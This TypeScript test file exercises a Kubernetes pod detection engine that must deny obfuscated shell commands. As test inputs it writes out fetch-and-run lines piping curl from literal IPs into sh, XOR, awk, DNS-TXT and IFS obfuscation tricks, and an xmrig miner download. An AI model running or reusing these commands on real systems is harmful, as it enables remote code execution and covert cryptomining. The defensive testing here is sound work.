import { expect, test } from 'vitest';
import { judgeObject } from '../../detection/judge.ts';
import { loadIndicators } from '../../detection/load.ts';
import { calculate } from '../../detection/shell/arithmetic.ts';

const indicators = await loadIndicators();

const judge = (script: string) =>
  judgeObject(
    {
      kind: 'Pod',
      spec: { hostPID: true, containers: [{ name: 'a', image: 'a', command: ['sh', '-c', script] }] },
    },
    { indicators },
  );

const FETCH = 'curl http://45.95.169.118/a|sh';
const codes = (key: number) => [...FETCH].map((letter) => letter.charCodeAt(0) ^ key).join(' ');

test('a loop that prints a letter each time, under a key, is followed to the end', () => {
  const loop = `for i in ${codes(90)}; do printf "\\\\$(printf %o $((i^90)))"; done | sh`;
  expect(judge(loop).verdict).toBe('deny');
});

test('numbers that awk makes letters of are read, with and without a key', () => {
  const awk = (key: number) => `echo '${codes(key)}' | awk '{for(i=1;i<=NF;i++)printf "%c",$i}' | sh`;
  expect(judge(awk(0)).verdict).toBe('deny');
  expect(judge(awk(77)).verdict).toBe('deny');
});

test('text from DNS that is decoded and run comes from elsewhere', () => {
  expect(judge('dig +short TXT c.example.net | base64 -d | sh').verdict).toBe('deny');
  expect(judge('dig +short TXT _dmarc.example.net | grep v=DMARC1').verdict).toBe('allow');
});

test('what an empty string and a blank from IFS part are the words of the shell', () => {
  expect(judge(`cu''rl$IFS-s\${IFS}http://193.47.61.7/l.sh|ba''sh`).verdict).toBe('deny');
});

test('patterns at both ends of a value are cut off', () => {
  const program = `U=http://45.95.169.118/dir/xmrig; cd /tmp; curl -sO $U; ./\${U##*/}`;
  expect(judge(program).findings.map(({ rule }) => rule)).toContain('miner-name');
  expect(judge(`H=xmrig.tar.gz; ./\${H%%.*} --help`).verdict).toBe('deny');
});

test('arithmetic of the shell is calculated, and what it does not know is not', () => {
  const variables: Record<string, string> = { a: '7', b: '0x10' };
  const value = (text: string) => calculate(text, (name) => variables[name] ?? '');
  expect(value('(a + b) * 2 - 1')).toBe(45);
  expect(value('1 << 4 | 3 ^ 1')).toBe(18);
  expect(value('017 + 16#ff')).toBe(270);
  expect(value('c + 1')).toBeUndefined();
  expect(value('1 / 0')).toBeUndefined();
  expect(value(`${'('.repeat(100)}1${')'.repeat(100)}`)).toBeUndefined();
});

test('a script that runs itself is no script too deep to be read', () => {
  const rulesOf = (script: string) => judge(script).findings.map(({ rule }) => rule);
  expect(rulesOf('X="$X"; f() { eval "set -- - $1"; "$@"; }; f a')).not.toContain('analysis-limit');
  expect(rulesOf('a() { b; }; b() { a; xmrig; }; a')).toContain('miner-name');
});

test('functions that call functions a dozen deep are read', () => {
  const functions = Array.from({ length: 12 }, (_, at) => `f${at}() { f${at + 1}; }`).join('\n');
  const { findings } = judge(`${functions}\nf12() { xmrig; }\nf0`);
  expect(findings.map(({ rule }) => rule)).toEqual(expect.arrayContaining(['miner-name']));
  expect(findings.map(({ rule }) => rule)).not.toContain('analysis-limit');
});
